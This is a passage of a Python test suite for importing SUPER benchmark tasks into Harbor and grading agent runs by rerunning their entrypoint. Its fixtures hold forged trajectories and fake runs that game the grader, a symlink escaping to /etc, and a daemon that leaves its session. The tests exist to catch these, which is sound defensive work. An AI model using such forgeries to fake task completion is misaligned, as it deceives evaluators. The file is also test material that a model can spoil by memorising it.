            keyed = RULE.output_match(answer, gold, 0.01, "gold-keyed")[0]
            if asta != pytest.approx(keyed):
                has_bool = "true" in json.dumps(answer) or "false" in json.dumps(answer)
                (booleans if has_bool else nesting).add(record["task_id"])
    assert nesting == {"bert-lnl", "linkbert", "logme-nlp", "multi3woz", "unsupervisedhierarchicalsymbolicregression"}
    assert booleans == {"mera", "mixup-amp", "pie-perf", "pira", "robust_prompt_classifier", "safetybench",
                        "unsupervisedhierarchicalsymbolicregression"}
    assert len(nesting | booleans) == 11


def _one_record_file(tmp_path: Path, records: list[dict], name: str = "records.jsonl") -> Path:
    return write_super(tmp_path / name, records)


def test_the_reading_chosen_at_import_is_recorded_and_graded_by_the_leaf(tmp_path: Path) -> None:
    import tomllib

    source = _one_record_file(tmp_path, [record_of("linkbert")])
    answers = {"omits a nested key": '{"eval": {"exact_match": 0.617, "f1": 0.63}, "test": {"exact_match": 0.643}}',
               "adds a nested key": '{"eval": {"exact_match": 0.617, "f1": 0.63, "loss": 3}, '
                                    '"test": {"exact_match": 0.643, "f1": 0.656}}'}
    expected = {"asta": {"omits a nested key": 1.0, "adds a nested key": 5 / 6},
                "gold-keyed": {"omits a nested key": 0.75, "adds a nested key": 1.0}}
    for reading in ("asta", "gold-keyed"):
        repo = make_repo(tmp_path / reading)
        options = [] if reading == "asta" else ["--reading", reading]
        run_sab("import", "super", "--from", str(source), *options, cwd=repo, check=True)
        leaf = repo / "tasks/super/linkbert"
        assert tomllib.loads((leaf / "task.toml").read_text())["metadata"]["super"]["reading"] == reading
        assert json.loads((leaf / "tests/checks/answer/ic/nominal/scoring.json").read_text())["reading"] == reading
        for name, text in answers.items():
            assert _grade(repo, "linkbert", text, tmp_path)["reward"] == pytest.approx(expected[reading][name]), (reading, name)
    done = run_sab("import", "super", "--from", str(source), "--reading", "swapped", cwd=make_repo(tmp_path / "bad"))
    assert done.returncode == 2 and "unknown reading 'swapped'" in done.stderr


# ---------------------------------------------------------------- Masked split

def _cell(kind: str, content: str) -> str:
    """A pre-executed cell as SUPER's records hold it: an action encoded as a JSON string."""
    return json.dumps({"type": kind, "content": content})


MASKED_CELLS = [
    _cell("execute", "# Compare the different ranking approaches of this repository"),
    _cell("execute", "!git clone https://github.com/rahmanidashti/acqsurvey"),
    _cell("execute", "%cd acqsurvey"),
    _cell("edit", "/content/acqsurvey/ranking_approaches.py\n<<<BEFORE_EDIT>>>\n!mkdir indexing_dir\n"
                  "<<<AFTER_EDIT>>>\n# !mkdir indexing_dir"),
    _cell("execute", "print('''```''')"),
]


def _masked_record() -> dict:
    return {**record_of("acqsurvey"), "task_id": "acqsurvey_data", "pre_execute_cells": MASKED_CELLS,
            "entrypoint": "ranking_approaches.py", "landmarks": ["Indexing the document"]}


def test_masked_records_run_and_show_their_pre_executed_cells(tmp_path: Path) -> None:
    """SUPER runs the cells before its agent starts and shows them as earlier steps: so does the leaf."""
    import tomllib

    from sab.templates import stock

    repo = make_repo(tmp_path / "repo")
    source = _one_record_file(tmp_path, [_masked_record()], "masked.jsonl")
    done = run_sab("import", "super", "--from", str(source), "--split", "Masked", cwd=repo)
    assert done.returncode == 0, done.stdout + done.stderr
    leaf = repo / "tasks/super/acqsurvey_data"
    cells = [json.loads(cell) for cell in MASKED_CELLS]
    assert json.loads((leaf / "environment/pre_execute_cells.json").read_text()) == cells
    assert (leaf / "environment/pre_execute.py").read_text() == stock("import/super/pre_execute.py")
    dockerfile = (leaf / "environment/Dockerfile").read_text()
    assert "WORKDIR /content" in dockerfile and "pip install --no-cache-dir ipython==" in dockerfile
    assert "RUN python3 /opt/super/pre_execute.py /opt/super/pre_execute_cells.json /opt/super" in dockerfile
    instruction = (leaf / "instruction.md").read_text()
    assert instruction.startswith(record_of("acqsurvey")["query"].rstrip())
    positions = [instruction.index(f"Pre-executed cell {n} ({cell['type']}):\n\n") for n, cell in enumerate(cells, 1)]
    assert positions == sorted(positions) and "/opt/super/pre-executed.md" in instruction
    for cell in cells:
        assert cell["content"] in instruction
    assert "````\nprint('''```''')\n````" in instruction  # a fence longer than the cell's own backticks
    manifest = tomllib.loads((leaf / "task.toml").read_text())
    assert manifest["artifacts"] == ["/app/answer.json"] and "SAB_PRE_EXECUTED" not in manifest["verifier"]["env"]
    assert manifest["environment"]["build_timeout_sec"] == 3600.0
    meta = manifest["metadata"]["super"]
    assert (meta["split"], meta["pre_executed_cells"], meta["context_token_budget"]) == ("Masked", 5, 400000)
    assert run_sab("validate-harbor", "--all", "tasks", cwd=repo).returncode == 0
    assert run_sab("import", "selfcheck", "tasks/super/acqsurvey_data", cwd=repo).returncode == 0
    # The same record in another split: SUPER runs the cells only in Masked.
    other = make_repo(tmp_path / "expert")
    run_sab("import", "super", "--from", str(source), cwd=other, check=True)
    assert not (other / "tasks/super/acqsurvey_data/environment/pre_execute.py").exists()
    assert "only in the Masked split" in (other / "tasks/super/acqsurvey_data/comment/README.md").read_text()


@pytest.mark.parametrize(("cell", "message"), [
    ("!ls", "pre_execute_cells[1]: is not a JSON action"),
    (json.dumps({"type": "submit", "content": "{}"}), "pre_execute_cells[1]: must be an action"),
    (json.dumps({"content": "!ls"}), "pre_execute_cells[1]: must be an action"),
])
def test_a_masked_record_with_a_bad_cell_is_skipped(tmp_path: Path, cell, message) -> None:
    from sab.importers.super import import_super

    record = {**_masked_record(), "pre_execute_cells": [MASKED_CELLS[0], cell]}
    source = _one_record_file(tmp_path, [record, record_of("mera")])
    result = import_super(make_repo(tmp_path / "repo") / "tasks", source, org="testorg", split="Masked")
    assert [p.name for p in result.leaves] == ["mera"]
    (skipped,) = result.skipped
    assert message in skipped.reason, skipped


def _load_pre_execute():
    import importlib.util

    from sab.templates import ROOT

    spec = importlib.util.spec_from_file_location("pre_execute", ROOT / "import/super/pre_execute.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


class _WritefileShell:
    """Enough of IPython for an edit cell: %%writefile writes its body."""

    def run_cell(self, cell: str) -> None:
        head, _, body = cell.partition("\n")
        assert head.startswith("%%writefile ")
        Path(head.split(" ", 1)[1]).write_text(body)


def test_edit_cells_follow_supers_edit_action(tmp_path: Path, monkeypatch) -> None:
    module, shell = _load_pre_execute(), _WritefileShell()
    monkeypatch.chdir(tmp_path)
    Path("a.py").write_text("import os\n\nx = 1\ny = 2\nx = 1\n")
    assert module.edit("a.py\nimport os\n<<<BEFORE_EDIT>>>\n\n<<<AFTER_EDIT>>>\n# blank", shell) == "Edit was successful."
    assert Path("a.py").read_text() == "import os\n# blank\nx = 1\ny = 2\nx = 1\n"
    assert module.edit("a.py\n<<<BEFORE_EDIT>>>\nx = 1\n<<<AFTER_EDIT>>>\nx = 3", shell).startswith(
        "Found multiple (2) occurrences")
    assert module.edit("a.py\ny = 2\n<<<BEFORE_EDIT>>>\nx = 1\n<<<AFTER_EDIT>>>\nx = 3", shell) == "Edit was successful."
    assert Path("a.py").read_text() == "import os\n# blank\nx = 1\ny = 2\nx = 3\n"
    assert module.edit("a.py\n<<<BEFORE_EDIT>>>\nz = 9\n<<<AFTER_EDIT>>>\nz = 0", shell).startswith("Could not find")
    assert module.edit("b.py\n<<<BEFORE_EDIT>>>\nz\n<<<AFTER_EDIT>>>\nw", shell) == "ERROR: File b.py does not exist."
    assert module.edit("a.py\nx", shell).startswith("Invalid format")
    assert module.edit("a.py\n<<<BEFORE_EDIT>>>\n<<<BEFORE_EDIT>>>\nx", shell).startswith("Found multiple BEFORE_EDIT")


def _ipython() -> str:
    """An interpreter with the IPython the Masked image installs: a cached environment of its pins."""
    from sab.importers.super import IPYTHON_VERSION
    from sab.leafenv import ensure_environment, resolve_requirements

    pins = resolve_requirements([f"ipython=={IPYTHON_VERSION}"])
    return str(ensure_environment(pins).bin_dir / "python")


def test_pre_executed_cells_run_in_one_shell_as_in_supers_notebook(tmp_path: Path) -> None:
    from sab.templates import ROOT

    python = _ipython()
    cells = [
        {"type": "execute", "content": "!mkdir -p repo && printf 'a = 1\\nb = 2\\n' > repo/run.py"},
        {"type": "execute", "content": "%cd repo"},
        {"type": "execute", "content": "value = 41\nprint('value', value + 1)"},
        {"type": "edit", "content": "run.py\n<<<BEFORE_EDIT>>>\nb = 2\n<<<AFTER_EDIT>>>\nb = 3"},
        {"type": "execute", "content": "raise ValueError('a failing cell')"},
        {"type": "execute", "content": "!cat run.py"},
    ]
    (tmp_path / "cells.json").write_text(json.dumps(cells))
    done = subprocess.run([python, str(ROOT / "import/super/pre_execute.py"), "cells.json", "out"], cwd=tmp_path,
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    assert (tmp_path / "repo/run.py").read_text() == "a = 1\nb = 3\n"
    steps = json.loads((tmp_path / "out/pre-executed.json").read_text())
    assert [step["action"] for step in steps] == cells
    observations = [step["observation"] for step in steps]
    assert observations[2] == "value 42\n" and observations[3] == "Edit was successful."
    assert "ValueError: a failing cell" in observations[4]
    assert "b = 3" in observations[5]  # the cell after a failing one still runs
    assert f"Working directory after the last cell: `{tmp_path / 'repo'}`" in (tmp_path / "out/pre-executed.md").read_text()


# ---------------------------------------------------------------- Auto split, landmarks, trajectories

AUTO_RECORDS = [
    {"task_id": "toy-auto", "query": "Train the model with train.py for one epoch.\n\nGit repository: https://example.invalid/auto",
     "query_components": {"e2e_task": "train", "scenario_task": "", "report": ""},
     "github_repo": "https://example.invalid/auto", "git_commit": "3333333", "entrypoint": "train.py",
     "landmarks": ["Epoch 1/\\d+", "saving model"]},
    {"task_id": "toy-auto-sh", "query": "Run the evaluation script.", "github_repo": "https://example.invalid/sh",
     "git_commit": "4444444", "entrypoint": "scripts/eval.sh", "answer": ""},
    {"task_id": "toy-auto-notebook", "query": "Run the notebook.", "github_repo": "https://example.invalid/nb",
     "git_commit": "5555555", "entrypoint": "analysis.ipynb"},
]


def _history(command: str, observation: str, seconds: float) -> list[dict]:
    return [{"action": {"type": "execute", "content": "!ls"}, "observation": "README.md train.py",
             "execution_start_time": "2024-08-20 10:00:00.000000", "execution_end_time": "2024-08-20 10:00:01.000000"},
            {"action": {"type": "execute", "content": command}, "observation": observation,
             "execution_start_time": "2024-08-20T10:00:01", "execution_end_time": f"2024-08-20T10:00:{1 + seconds:02.0f}"}]


def _atif(command: str, output: str, seconds: float, *, tool: str = "bash", argument: str = "command",
          extra: dict | None = None, result: bool = True) -> dict:
    """A Harbor ATIF trajectory: one shell call and its result; the next step comes SECONDS later
    (a gap that includes the model's own time, never read as the command's run time)."""
    call = {"tool_call_id": "c1", "function_name": tool, "arguments": {argument: command}}
    results = [{"source_call_id": "c1", "content": [{"type": "text", "text": output}],
                **({"extra": extra} if extra else {})}] if result else []
    return {"schema_version": "ATIF-v1.6", "session_id": "s", "agent": {"name": "terminus-2", "version": "1"},
            "steps": [
                {"step_id": 1, "source": "user", "message": "Train the model. Epoch 1/3 saving model",
                 "timestamp": "2024-08-20T10:00:00Z"},
                {"step_id": 2, "source": "agent", "message": "running", "timestamp": "2024-08-20T10:00:01Z",
                 "tool_calls": [call], **({"observation": {"results": results}} if results else {})},
                {"step_id": 3, "source": "agent", "message": "done",
                 "timestamp": (datetime(2024, 8, 20, 10, 0, 1) + timedelta(seconds=seconds)).isoformat() + "Z"},
            ]}


def _grade_with(repo: Path, leaf: str, tmp_path: Path, *, answer: str | None = None, trajectory=None) -> dict:
    from sab.importers.grading import grade_answer

    answer_path = trajectory_path = None
    if answer is not None:
        answer_path = tmp_path / "answer.json"
        answer_path.write_text(answer)
    if trajectory is not None:
        trajectory_path = tmp_path / "trajectory.json"
        trajectory_path.write_text(json.dumps(trajectory))
    return grade_answer(repo / "tasks/super" / leaf, answer_path, trajectory=trajectory_path).reward


@pytest.fixture(scope="module")
def auto(tmp_path_factory) -> Path:
    repo = make_repo(tmp_path_factory.mktemp("auto") / "repo")
    source = write_super(repo.parent / "auto.jsonl", AUTO_RECORDS)
    done = run_sab("import", "super", "--from", str(source), "--split", "Auto", "--json", cwd=repo)
    assert done.returncode == 1, done.stdout + done.stderr  # the notebook entrypoint is skipped
    report = json.loads(done.stdout)
    assert report["leaves"] == ["tasks/super/toy-auto", "tasks/super/toy-auto-sh"]
    (skipped,) = report["skipped"]
    assert skipped["instance"] == "toy-auto-notebook" and "is not a .py, .sh, .bash file" in skipped["reason"]
    return repo


def test_auto_records_import_with_an_entrypoint_check(auto: Path) -> None:
    import tomllib

    assert run_sab("validate-harbor", "--all", "tasks", cwd=auto).returncode == 0
    leaf = auto / "tasks/super/toy-auto"
    assert sorted(p.name for p in (leaf / "tests/checks").iterdir()) == ["entrypoint"]
    assert sorted(p.name for p in (leaf / "tests/gold").iterdir()) == ["NOTE.md"]
    assert not (leaf / "solution/answer").exists()
    meta = tomllib.loads((leaf / "task.toml").read_text())["metadata"]["super"]
    assert (meta["split"], meta["scored_by"], meta["oracle"], meta["entrypoint"]) == ("Auto", "entrypoint", "none", "train.py")
    assert "Epoch" not in (leaf / "instruction.md").read_text()  # landmarks stay on the verifier side
    # Measured, never read: the verifier gets the agent's tree and the command, and no trajectory.
    manifest = tomllib.loads((leaf / "task.toml").read_text())
    assert manifest["artifacts"] == ["/app/answer.json", "/app/entrypoint.json", "/content"]
    assert manifest["verifier"]["env"] == {"SAB_ORACLE_SOURCE": "/tests/gold", "SAB_CANDIDATE_SOURCE": "/app"}
    assert "collect" not in manifest["verifier"] and manifest["verifier"]["timeout_sec"] == 420.0
    assert (meta["entrypoint_measured_by"], meta["agent_tree"], meta["rerun_seconds"]) == ("rerun", "/content", 120)
    scoring = json.loads((leaf / "tests/checks/entrypoint/ic/nominal/scoring.json").read_text())
    assert (scoring["agent_tree"], scoring["rerun_seconds"]) == ("/content", 120)
    assert '`/app/entrypoint.json`' in (leaf / "instruction.md").read_text()
    assert "FROM ${BASE_IMAGE}" in (leaf / "tests/Dockerfile").read_text()
    assert "ARG BASE_IMAGE=python:3.10-slim" in (leaf / "tests/Dockerfile").read_text()  # the solver's Python
    done = run_sab("import", "selfcheck", "tasks/super/toy-auto", "tasks/super/toy-auto-sh", "--json", cwd=auto)
    assert done.returncode == 0, done.stdout + done.stderr
    assert all(case["ok"] for check in json.loads(done.stdout) for case in check["cases"])


@pytest.mark.parametrize(("command", "observation", "seconds", "reward"), [
    ("!python train.py --epochs 1", "Epoch 1/1 ... saving model", 12, 1.0),
    ("!cd src && python -m train --epochs 1", "Epoch 1/1", 12, 1.0),        # module form
    ("!python train.py", "Traceback (most recent call last):\n  File ...", 12, 0.0),
    ("!python train.py --bad", "usage: train.py\ntrain.py: error: unrecognized arguments", 12, 0.0),
    ("!python train.py", "Epoch 1/1", 5, 0.0),                               # under 10 seconds
    ("!python other.py", "Epoch 1/1", 12, 0.0),
])
def test_auto_is_scored_by_supers_entrypoint_rule(auto: Path, tmp_path: Path, command, observation, seconds, reward) -> None:
    flat = _grade_with(auto, "toy-auto", tmp_path, trajectory=_history(command, observation, seconds))
    assert flat["reward"] == reward and flat["entrypoint"] == reward and flat["trajectory"] == 1
    assert flat["submitted"] == 0


def test_auto_without_a_trajectory_scores_zero_and_atif_is_read(auto: Path, tmp_path: Path) -> None:
    flat = _grade_with(auto, "toy-auto", tmp_path, answer='{"loss": 1.0}')
    assert (flat["reward"], flat["trajectory"], flat["submitted"]) == (0.0, 0.0, 1.0) and "entrypoint" not in flat
    flat = _grade_with(auto, "toy-auto", tmp_path, trajectory=_atif("python train.py", "Epoch 1/1 saving model", 15))
    assert (flat["reward"], flat["landmarks"]) == (1.0, 1.0)  # the user message's text is not an output
    flat = _grade_with(auto, "toy-auto", tmp_path, trajectory=_atif("python train.py", "loading", 15))
    assert (flat["reward"], flat["landmarks"]) == (1.0, 0.0)
    # ATIF records no run time: a stated duration counts, the gap to the next step never does.
    flat = _grade_with(auto, "toy-auto-sh", tmp_path, trajectory=_atif("bash scripts/eval.sh", "ok", 30,
                                                                       extra={"duration_ms": 3000}))
    assert (flat["reward"], flat["entrypoint"]) == (0.0, 0.0)
    flat = _grade_with(auto, "toy-auto-sh", tmp_path, trajectory=_atif("bash scripts/eval.sh", "ok", 3,
                                                                       extra={"duration_ms": 12000}))
    assert (flat["reward"], flat["entrypoint_timed"]) == (1.0, 1.0)
    flat = _grade_with(auto, "toy-auto-sh", tmp_path, trajectory=_atif("bash scripts/eval.sh", "ok", 3))
    assert (flat["reward"], flat["entrypoint_timed"]) == (1.0, 0.0)  # ran; its 10 s are not verified


NOOP_ATIF = {  # read the script, think for 15 s, stop: nothing ran
    "schema_version": "ATIF-v1.2", "session_id": "s", "agent": {"name": "claude-code", "version": "1"},
    "steps": [
        {"step_id": 1, "source": "user", "timestamp": "2025-01-01T00:00:00Z", "message": "task"},
        {"step_id": 2, "source": "agent", "timestamp": "2025-01-01T00:00:05Z", "message": "Let me look at the script.",
         "tool_calls": [{"tool_call_id": "t1", "function_name": "Read", "arguments": {"file_path": "/content/y/train.py"}}],
         "observation": {"results": [{"source_call_id": "t1", "content": "import torch\n# trains the model\n"}]}},
        {"step_id": 3, "source": "agent", "timestamp": "2025-01-01T00:00:20Z", "message": "I will not run it. Done."},
    ]}


# Under Harbor (SAB_AGENT_TREE set) an Auto leaf's entrypoint metric is measured: validate.py reruns
# the command named in /app/entrypoint.json in the agent's tree. These run the leaf's real validate.py
# on real trees; the tree lies in a folder every uid may enter, as /content does in the verifier.

HONEST_TRAIN = """import os, time
if os.fork() == 0:  # a daemon of the run's own, in a session of its own: ended with the run
    os.setsid()
    time.sleep(12)  # after the run's own end
    open(os.environ["MARK"], "w").write("left behind")
    os._exit(0)
for epoch in (1, 2, 3):
    print(f"Epoch {epoch}/3", flush=True)
    time.sleep(3.5)
print("saving model")
"""

# SUPER's own history of a 5-minute `python train.py` that printed every landmark: what a forger writes.
FORGED_HISTORY = [{"action": {"type": "execute", "content": "!cd /content/toy && python train.py"},
                   "observation": "Epoch 1/3\nEpoch 2/3\nEpoch 3/3\nsaving model",
                   "execution_start_time": "2024-08-20T10:00:00", "execution_end_time": "2024-08-20T10:05:00"}]


@pytest.fixture()
def agent_tree():
    import tempfile

    root = Path(tempfile.mkdtemp(prefix="sab-super-tree-", dir="/tmp"))
    root.chmod(0o755)
    (root / "toy").mkdir()
    yield root
    shutil.rmtree(root, ignore_errors=True)


def _rerun(auto: Path, tmp_path: Path, tree: Path | None, files: dict, *, env: dict | None = None,
           check: Path | None = None) -> dict:
    """The leaf's validate.py on a candidate folder holding FILES (a Path: a link to it), with the agent's tree TREE."""
    check = check or auto / "tasks/super/toy-auto/tests/checks/entrypoint"
    candidate, reference = tmp_path / "candidate", tmp_path / "reference"
    shutil.rmtree(candidate, ignore_errors=True)
    candidate.mkdir()
    reference.mkdir(exist_ok=True)
    for name, content in files.items():
        if isinstance(content, Path):
            (candidate / name).symlink_to(content)
        else:
            (candidate / name).write_text(content if isinstance(content, str) else json.dumps(content))
    out = tmp_path / "result.json"
    knobs = {"SAB_AGENT_TREE": str(tree)} if tree is not None else {}
    done = subprocess.run([sys.executable, "-I", str(check / "validate.py"), "--reference", str(reference),
                           "--candidate", str(candidate), "--rubric", str(check / "rubric.json"), "--out", str(out)],
                          capture_output=True, text=True, timeout=300,
                          env={"PATH": os.environ["PATH"], **knobs, **(env or {})})
    assert done.returncode == 0, done.stderr
    return json.loads(out.read_text())


def test_an_honest_run_in_the_agents_tree_scores_one_and_leaves_nothing_running(auto: Path, tmp_path: Path,
                                                                                agent_tree: Path) -> None:
    (agent_tree / "toy/train.py").write_text(HONEST_TRAIN)
    mark = agent_tree / "mark"
    spec = {"command": f"MARK={mark} python3 train.py", "cwd": str(agent_tree / "toy")}
    result = _rerun(auto, tmp_path, agent_tree, {"entrypoint.json": spec})
    metrics = result["metrics"]
    assert (result["score"], metrics["entrypoint"], metrics["rerun_cut"], metrics["rerun_exit_status"]) == (
        1.0, 1.0, 0.0, 0.0), result["reason"]
    assert 10 <= metrics["rerun_seconds"] < 60 and metrics["rerun_landmarks"] == 1.0
    if os.geteuid() == 0:
        assert "rerun as uid 65534" in result["reason"]
        assert (agent_tree / "toy/train.py").stat().st_uid == 65534  # handed over, so the run could write
    time.sleep(max(0.0, 14 - metrics["rerun_seconds"]))
    assert not mark.exists()  # the daemon left its session, and was ended all the same


def test_a_forged_trajectory_with_no_tree_behind_it_scores_zero(auto: Path, tmp_path: Path, agent_tree: Path) -> None:
    """The forger's history claims a 5-minute run with every landmark, and /app/entrypoint.json
    names it; the tree holds no train.py. Measured, the run scores 0, whatever the history says."""
    spec = {"command": "python3 train.py", "cwd": str(agent_tree / "toy")}
    result = _rerun(auto, tmp_path, agent_tree, {"entrypoint.json": spec, "trajectory.json": FORGED_HISTORY})
    assert (result["score"], result["metrics"]["entrypoint"]) == (0.0, 0.0), result["reason"]
    assert "under the 10 s" in result["reason"] and "landmarks" not in result["metrics"]
    assert result["metrics"]["rerun_landmarks"] == 0.0
    # In a Harbor trial (test.sh's trial mode: [verifier] env names the candidate's source) the tree
    # is the leaf's own agent_tree, /content, which holds nothing here: still 0, never the history.
    assert not Path("/content").exists()
    trial = _rerun(auto, tmp_path, None, {"entrypoint.json": spec, "trajectory.json": FORGED_HISTORY},
                   env={"SAB_CANDIDATE_SOURCE": "/app"})
    assert trial["score"] == 0.0 and "the agent's tree /content did not reach the verifier" in trial["reason"]


def _check_with(auto: Path, tmp_path: Path, **scoring) -> Path:
    """A copy of the toy Auto leaf's check whose scoring.json has SCORING's values."""
    check = tmp_path / "check"
    shutil.copytree(auto / "tasks/super/toy-auto/tests/checks/entrypoint", check)
    path = check / "ic/nominal/scoring.json"
    path.write_text(json.dumps({**json.loads(path.read_text()), **scoring}))
    return check


def test_the_rerun_watches_the_whole_run_and_stops_at_its_limit(auto: Path, tmp_path: Path, agent_tree: Path) -> None:
    """A Traceback after the first 10 s still counts against the run; a run still going, without an
    error, when the leaf's limit ends it counts as SUPER's long run."""
    spec = {"command": "python3 train.py", "cwd": str(agent_tree / "toy")}
    (agent_tree / "toy/train.py").write_text("import time\nprint('Epoch 1/3', flush=True)\ntime.sleep(10.5)\n1 / 0\n")
    late = _rerun(auto, tmp_path, agent_tree, {"entrypoint.json": spec})
    assert (late["score"], late["metrics"]["rerun_exit_status"]) == (0.0, 1.0) and "'Traceback'" in late["reason"], late
    (agent_tree / "toy/train.py").write_text("import time\nprint('Epoch 1/3 saving model', flush=True)\ntime.sleep(600)\n")
    started = time.monotonic()
    cut = _rerun(auto, tmp_path, agent_tree, {"entrypoint.json": spec}, check=_check_with(auto, tmp_path, rerun_seconds=11))
    assert time.monotonic() - started < 120  # ended at the limit, not after the script's 600 s
    metrics = cut["metrics"]
    assert (cut["score"], metrics["rerun_cut"], metrics["rerun_landmarks"]) == (1.0, 1.0, 1.0), cut["reason"]
    assert metrics["rerun_seconds"] == 11 and "rerun_exit_status" not in metrics and "still running after 11 s" in cut["reason"]


@pytest.mark.parametrize(("scoring", "message"), [
    ({"rerun_seconds": 5}, "rerun_seconds must be a number of seconds from 10"),
    ({"rerun_seconds": "120"}, "rerun_seconds must be a number"),
    ({"agent_tree": "content"}, "agent_tree must be an absolute path"),
])
def test_a_bad_rerun_setting_is_a_wiring_error_naming_it(auto: Path, tmp_path: Path, scoring: dict, message: str) -> None:
    check = _check_with(auto, tmp_path, **scoring)
    (tmp_path / "candidate").mkdir()
    done = subprocess.run([sys.executable, "-I", str(check / "validate.py"), "--reference", str(tmp_path),
                           "--candidate", str(tmp_path / "candidate"), "--rubric", str(check / "rubric.json"),
                           "--out", str(tmp_path / "out.json")], capture_output=True, text=True, timeout=60)
    assert done.returncode == 2 and f"scoring.json: {message}" in done.stderr, done.stderr


FORGED_TREES = {
    # train.py that raises at once: the Traceback is in the rerun's output
    "raises": ("print('Epoch 1/1')\n1 / 0", "python3 train.py", "Traceback"),
    # a clean exit in a second: under SUPER's 10 s
    "too short": ("print('Epoch 1/1 saving model')", "python3 train.py", "under the 10 s"),
    # naming the script is not running it
    "only read": ("", "cat train.py; sleep 11", "does not run train.py in the foreground"),
    "background": ("", "python3 train.py & sleep 11", "does not run train.py in the foreground"),
    "python -c": ("", "python3 -c 'import time; time.sleep(11)' # train.py", "does not run train.py in the foreground"),
}


@pytest.mark.parametrize("case", sorted(FORGED_TREES))
def test_forged_trees_score_zero(auto: Path, tmp_path: Path, agent_tree: Path, case: str) -> None:
    script, command, reason = FORGED_TREES[case]
    (agent_tree / "toy/train.py").write_text(script)
    result = _rerun(auto, tmp_path, agent_tree, {"entrypoint.json": {"command": command, "cwd": str(agent_tree / "toy")},
                                                  "trajectory.json": FORGED_HISTORY})
    assert (result["score"], result["metrics"]["entrypoint"], result["passed"]) == (0.0, 0.0, False), result["reason"]
    assert reason in result["reason"], result["reason"]


def test_a_bad_entrypoint_file_or_tree_scores_zero_with_its_reason(auto: Path, tmp_path: Path, agent_tree: Path) -> None:
    toy = str(agent_tree / "toy")
    (agent_tree / "escape").symlink_to("/etc")
    cases = [
        ({}, agent_tree, "no /app/entrypoint.json was left"),
        ({"entrypoint.json": "not json"}, agent_tree, "/app/entrypoint.json is not JSON"),
        ({"entrypoint.json": ["python3 train.py"]}, agent_tree, "must be an object"),
        ({"entrypoint.json": {"command": 3, "cwd": toy}}, agent_tree, "command must be a shell command line"),
        ({"entrypoint.json": {"command": "python3 train.py", "cwd": "toy"}}, agent_tree, "cwd must be an absolute path"),
        ({"entrypoint.json": {"command": "python3 train.py", "cwd": "/etc"}}, agent_tree, "is not inside"),
        ({"entrypoint.json": {"command": "python3 train.py", "cwd": str(agent_tree / "escape")}}, agent_tree,
         "is not inside"),  # a link in the tree leading out of it
        ({"entrypoint.json": {"command": "python3 train.py", "cwd": toy + "/none"}}, agent_tree, "is not a directory"),
        ({"entrypoint.json": {"command": "python3 train.py", "cwd": toy}}, agent_tree / "absent",
         "did not reach the verifier"),
        ({"entrypoint.json": {"command": "python3 train.py", "cwd": toy}}, agent_tree / "escape", "is not a directory"),
    ]
    for files, tree, reason in cases:
        result = _rerun(auto, tmp_path, tree, {**files, "trajectory.json": FORGED_HISTORY})
        assert (result["score"], result["metrics"]["entrypoint"]) == (0.0, 0.0), (files, result["reason"])
        assert reason in result["reason"], (files, result["reason"])
    real = tmp_path / "real.json"
    real.write_text(json.dumps({"command": "python3 train.py", "cwd": toy}))
    result = _rerun(auto, tmp_path, agent_tree, {"entrypoint.json": real})
    assert result["score"] == 0.0 and "entrypoint.json is a symlink (refused)" in result["reason"], result["reason"]


def test_a_harbor_trajectory_that_only_reads_the_entrypoint_scores_zero(auto: Path, tmp_path: Path) -> None:
    flat = _grade_with(auto, "toy-auto", tmp_path, trajectory=NOOP_ATIF)
    assert (flat["reward"], flat["entrypoint"], flat["trajectory"]) == (0.0, 0.0, 1.0)
    assert "entrypoint_timed" not in flat


@pytest.mark.parametrize(("tool", "argument", "command", "output", "extra", "reward"), [
    ("Read", "file_path", "/content/y/train.py", "import torch", None, 0.0),            # not a shell call
    ("Edit", "new_string", "python train.py", "edited", None, 0.0),
    ("Grep", "pattern", "python train.py", "train.py:1", None, 0.0),
    ("Bash", "command", "cat train.py", "import torch", None, 0.0),                      # names it, runs something else
    ("Bash", "command", "vim train.py && ls", "", None, 0.0),
    ("Bash", "command", "echo 'python train.py'", "python train.py", None, 0.0),
    ("Bash", "command", "nohup python train.py > log 2>&1 &", "", None, 0.0),             # its output is not the step's
    ("Bash", "command", "python train.py", "Traceback (most recent call last):", None, 0.0),
    ("Bash", "command", "python train.py --x", "train.py: error: unrecognized arguments", None, 0.0),
    ("Bash", "command", "python train.py", "[exit_code] 1", {"tool_result_is_error": True}, 0.0),
    ("exec_command", "cmd", "python train.py", "ok", {"duration_ms": 9999}, 0.0),         # stated: under 10 s
    ("Bash", "command", "cd /content/y && CUDA_VISIBLE_DEVICES=0 python3 -u train.py --epochs 1 | tee log",
     "Epoch 1/1", None, 1.0),
    ("exec_command", "cmd", "python -m src.train --epochs 1", "done", {"duration_ms": 15000}, 1.0),
    ("bash_command", "keystrokes", "python train.py\n", "Epoch 1/1", None, 1.0),           # Terminus 2
    ("developer.shell", "command", "timeout 1800 python train.py", "done", None, 1.0),    # Goose
])
def test_a_harbor_run_counts_only_when_a_shell_call_runs_the_entrypoint(auto: Path, tmp_path: Path, tool, argument,
                                                                        command, output, extra, reward) -> None:
    flat = _grade_with(auto, "toy-auto", tmp_path, trajectory=_atif(command, output, 60, tool=tool, argument=argument,
                                                                     extra=extra))
    assert (flat["reward"], flat["entrypoint"]) == (reward, reward)
    if reward:
        assert flat["entrypoint_timed"] == (1.0 if extra else 0.0)


def test_a_harbor_run_needs_its_own_result(tmp_path: Path) -> None:
    """No result, a result answering another call, or Claude Code's background run: nothing shows it ran."""
    assert RULE.entrypoint_ran("train.py", RULE.read_trajectory(_atif("python train.py", "", 60, result=False))) == (0.0, None)
    other = _atif("python train.py", "Epoch 1/1", 60)
    other["steps"][1]["observation"]["results"][0]["source_call_id"] = "c9"
    assert RULE.entrypoint_ran("train.py", RULE.read_trajectory(other)) == (0.0, None)
    background = _atif("python train.py", "Command running in background with ID: b1", 60, tool="Bash")
    background["steps"][1]["tool_calls"][0]["arguments"]["run_in_background"] = True
    assert RULE.entrypoint_ran("train.py", RULE.read_trajectory(background)) == (0.0, None)
    shared = _atif("python train.py", "Epoch 1/1", 60)  # a terminal's output shared by the step's calls
    del shared["steps"][1]["observation"]["results"][0]["source_call_id"]
    assert RULE.entrypoint_ran("train.py", RULE.read_trajectory(shared)) == (1.0, False)
    vector = _atif(["bash", "-lc", "python train.py"], "ok", 60, tool="shell")  # Codex's argument vector
    assert RULE.entrypoint_ran("train.py", RULE.read_trajectory(vector)) == (1.0, False)


@pytest.mark.parametrize(("command", "name", "runs"), [
    ("python train.py", "train.py", True),
